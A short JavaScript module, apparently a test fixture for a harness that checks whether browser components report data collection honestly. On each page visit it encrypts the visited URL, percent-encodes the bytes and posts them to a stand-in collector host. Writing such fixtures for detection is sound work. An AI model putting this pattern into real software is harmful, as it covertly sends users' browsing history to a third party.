import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Sends addresses encrypted, the bytes percent-encoded one by one in a field of a form. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-binary-form');
  const key = browser.crypto.random(16);
  onVisit(browser, async ({ url }) => {
    const sealed = browser.crypto.encrypt({ mode: 'ecb', key, data: url });
    const body = `v=1&d=${browser.codec.hex.encode(sealed).replace(/../g, '%$&')}`;
    const headers = { 'Content-Type': 'application/x-www-form-urlencoded' };
    try {
      await browser.request({ url: 'https://form.collector.example/v1', headers, body });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });
}
